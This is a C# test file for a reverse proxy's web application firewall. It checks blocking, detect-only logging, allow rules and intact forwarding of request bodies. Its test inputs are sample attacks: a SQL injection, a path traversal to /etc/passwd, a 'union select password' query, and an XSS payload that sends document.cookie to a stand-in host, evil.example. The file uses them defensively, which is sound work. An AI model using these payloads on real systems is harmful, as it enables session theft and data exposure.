using System.Net;
using System.Security.Cryptography;
using System.Text;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Testing;
using Slipway.Core.Logging;
using Slipway.Core.Routing;
using Slipway.Proxy.Tests.Support;
using static Slipway.Proxy.Tests.Support.Tables;

namespace Slipway.Proxy.Tests.Edge;

/// <summary>The WAF on a route, over real sockets: block, detect, allow rules, bodies read ahead and forwarded intact.</summary>
public sealed class WafStepTests : IAsyncLifetime
{
    private const string SqlInjection = "/api/items?id=1%27%20or%20%271%27%3D%271";
    private readonly FakeLogCollector _logs = new();
    private TestBackend _backend = null!;

    public async Task InitializeAsync() =>
        // Answers with the length and SHA-256 of the body it received, so a test sees whether it came through intact.
        _backend = await TestBackend.StartAsync("api", async context =>
        {
            using var body = new MemoryStream();
            await context.Request.Body.CopyToAsync(body);
            await context.Response.WriteAsync($"{body.Length} {Convert.ToHexString(SHA256.HashData(body.ToArray()))}");
        });

    public async Task DisposeAsync() => await _backend.DisposeAsync();

    private Task<ProxyHarness> StartAsync(WafMode mode, int bodyBytes = 16 * 1024, params WafAllowModel[] allow) =>
        ProxyHarness.StartAsync(
            Table([Route("api#0", "api", path: "/api", policy: RoutePolicy.Default with { Waf = new WafModel(mode, bodyBytes, [.. allow]) })],
                Service("api", null, Revision("v1", 100, _backend.Endpoint()))),
            o => o with { LoggerFactory = LoggerFactory.Create(b => b.AddProvider(new FakeLoggerProvider(_logs))) });

    private static async Task<(HttpStatusCode Status, string Body, string? RequestId)> SendAsync(ProxyHarness proxy, HttpRequestMessage request)
    {
        using (request)
        {
            using var response = await proxy.Client.SendAsync(request);
            return (response.StatusCode, await response.Content.ReadAsStringAsync(),
                response.Headers.TryGetValues("X-Request-Id", out var ids) ? ids.Single() : null);
        }
    }

    private static HttpRequestMessage Post(string path, byte[] body, string contentType, bool chunked = false)
    {
        HttpContent content = chunked ? new StreamContent(new MemoryStream(body)) : new ByteArrayContent(body);
        content.Headers.ContentType = System.Net.Http.Headers.MediaTypeHeaderValue.Parse(contentType);
        var request = new HttpRequestMessage(HttpMethod.Post, path) { Content = content };
        request.Headers.TransferEncodingChunked = chunked ? true : null;
        return request;
    }

    private static string Digest(byte[] body) => $"{body.Length} {Convert.ToHexString(SHA256.HashData(body))}";

    private IReadOnlyList<FakeLogRecord> WafLines() => [.. _logs.GetSnapshot().Where(r => r.Id.Id == EventIds.ProxyWafMatch)];

    [Fact]
    public async Task BlockMode_Attack_Gets403WithTheRequestId_AndTheBackendNeverSeesIt()
    {
        await using var proxy = await StartAsync(WafMode.Block);

        var (status, body, requestId) = await SendAsync(proxy, new HttpRequestMessage(HttpMethod.Get, SqlInjection));

        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.NotNull(requestId);
        Assert.Contains(requestId, body, StringComparison.Ordinal);
        Assert.Equal(0, _backend.Requests);
        Assert.Contains(proxy.Sink.Samples, s => s is { StatusCode: 403, Refusal: EdgeRefusal.Waf, WafClass: "sqli", WafBlocked: true, Route: "api#0" });
        var line = Assert.Single(WafLines());
        Assert.Equal(LogLevel.Warning, line.Level);
        Assert.Contains("sqli-boolean (sqli) matched query:id from 127.0.0.1", line.Message, StringComparison.Ordinal);
        Assert.Contains(requestId, line.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BlockMode_BenignRequest_IsForwarded()
    {
        await using var proxy = await StartAsync(WafMode.Block);

        var (status, _, _) = await SendAsync(proxy, new HttpRequestMessage(HttpMethod.Get, "/api/search?q=O%27Brien%20select%20a%20plan%20%3C%2010%24"));

        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Equal(1, _backend.Requests);
        Assert.Empty(WafLines());
        Assert.All(proxy.Sink.Samples, s => Assert.Null(s.WafClass));
    }

    [Fact]
    public async Task DetectMode_Attack_IsForwarded_LoggedAndCounted()
    {
        await using var proxy = await StartAsync(WafMode.Detect);

        var (status, _, _) = await SendAsync(proxy, new HttpRequestMessage(HttpMethod.Get, "/api/files?name=..%2F..%2Fetc%2Fpasswd"));

        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Equal(1, _backend.Requests);
        Assert.Contains(proxy.Sink.Samples, s => s is { StatusCode: 200, Refusal: EdgeRefusal.None, WafClass: "path-traversal", WafBlocked: false });
        Assert.Contains("WAF detected", Assert.Single(WafLines()).Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AllowRule_SilencesItsTargetOnly()
    {
        await using var proxy = await StartAsync(WafMode.Block, allow: new WafAllowModel("sqli", "query", "id", "/api/items"));

        Assert.Equal(HttpStatusCode.OK, (await SendAsync(proxy, new HttpRequestMessage(HttpMethod.Get, SqlInjection))).Status);
        Assert.Equal(HttpStatusCode.Forbidden, (await SendAsync(proxy, new HttpRequestMessage(HttpMethod.Get, SqlInjection.Replace("id=", "q=", StringComparison.Ordinal)))).Status);
        Assert.Equal(HttpStatusCode.Forbidden, (await SendAsync(proxy, new HttpRequestMessage(HttpMethod.Get, SqlInjection.Replace("/api/items", "/api/other", StringComparison.Ordinal)))).Status);
        Assert.Equal(1, _backend.Requests);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task JsonBody_AttackBlocked_BenignBodyForwardedIntact(bool chunked)
    {
        await using var proxy = await StartAsync(WafMode.Block);
        var attack = Encoding.UTF8.GetBytes("""{"order":{"note":"<script>fetch('//evil.example/'+document.cookie)</script>"}}""");
        // Larger than the 16 KiB read ahead: the backend must still get every byte, in order.
        var benign = Encoding.UTF8.GetBytes("{\"items\":[" + string.Join(",", Enumerable.Range(0, 2000).Select(i => $"{{\"id\":{i},\"name\":\"Seán O'Brien\",\"note\":\"select 2 of these, qty < 10\"}}")) + "]}");

        var blocked = await SendAsync(proxy, Post("/api/orders", attack, "application/json", chunked));
        var forwarded = await SendAsync(proxy, Post("/api/orders", benign, "application/json; charset=utf-8", chunked));

        Assert.Equal(HttpStatusCode.Forbidden, blocked.Status);
        Assert.Contains("xss-script (xss) matched body:order.note", Assert.Single(WafLines()).Message, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, forwarded.Status);
        Assert.True(benign.Length > 16 * 1024);
        Assert.Equal(Digest(benign), forwarded.Body);
        Assert.Equal(1, _backend.Requests);
    }

    [Fact]
    public async Task FormBody_SmallerThanTheReadAhead_ForwardedIntact()
    {
        await using var proxy = await StartAsync(WafMode.Block);
        var form = Encoding.UTF8.GetBytes("name=O%27Brien&comment=I+select+the+%3C+cheaper+plan");

        var (status, body, _) = await SendAsync(proxy, Post("/api/signup", form, "application/x-www-form-urlencoded"));

        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Equal(Digest(form), body);
    }

    /// <summary>The body the WAF reads ahead comes too slowly for Kestrel's rate: 408 as Kestrel answers, not a 400.</summary>
    [Fact]
    public async Task ReadAhead_ABodyTooSlowForKestrelsRate_Gets408()
    {
        await using var proxy = await ProxyHarness.StartAsync(
            Table([Route("api#0", "api", path: "/api", policy: RoutePolicy.Default with { Waf = new WafModel(WafMode.Block, 16 * 1024, []) })],
                Service("api", null, Revision("v1", 100, _backend.Endpoint()))),
            o => o with { MinRequestBodyDataRate = new Microsoft.AspNetCore.Server.Kestrel.Core.MinDataRate(1024 * 1024, TimeSpan.FromSeconds(2)) });
        await using var client = await proxy.ConnectAsync();

        await client.SendAsync("POST /api/items HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"a\":");

        Assert.StartsWith("HTTP/1.1 408 ", await client.ReadHeadAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task BodyLimit_AnAttackPastItIsNotInspected()
    {
        await using var proxy = await StartAsync(WafMode.Block, bodyBytes: 64);
        var late = Encoding.UTF8.GetBytes("{\"padding\":\"" + new string('x', 100) + "\",\"q\":\"1' union select password from users--\"}");
        var early = Encoding.UTF8.GetBytes("{\"q\":\"1' union select password from users--\"}");

        Assert.Equal(HttpStatusCode.OK, (await SendAsync(proxy, Post("/api/q", late, "application/json"))).Status);
        Assert.Equal(HttpStatusCode.Forbidden, (await SendAsync(proxy, Post("/api/q", early, "application/json"))).Status);
    }

    [Fact]
    public async Task DeniedClient_RefusedWithoutWaitingForItsBody()
    {
        var route = RoutePolicy.Default with { Deny = [IPNetwork.Parse("127.0.0.0/8")], Waf = new WafModel(WafMode.Block, 16 * 1024, []) };
        await using var proxy = await ProxyHarness.StartAsync(
            Table([Route("api#0", "api", path: "/api", policy: route)], Service("api", null, Revision("v1", 100, _backend.Endpoint()))));
        await using var raw = await RawHttp.ConnectAsync(proxy.Port);

        // The head only: its body never comes, so reading it ahead would wait out the route's idle timeout.
        await raw.SendAsync("POST /api/orders HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n");

        Assert.StartsWith("HTTP/1.1 403", await raw.ReadUntilAsync("may not use this route\n"), StringComparison.Ordinal);
        Assert.Equal(0, _backend.Requests);
    }
}
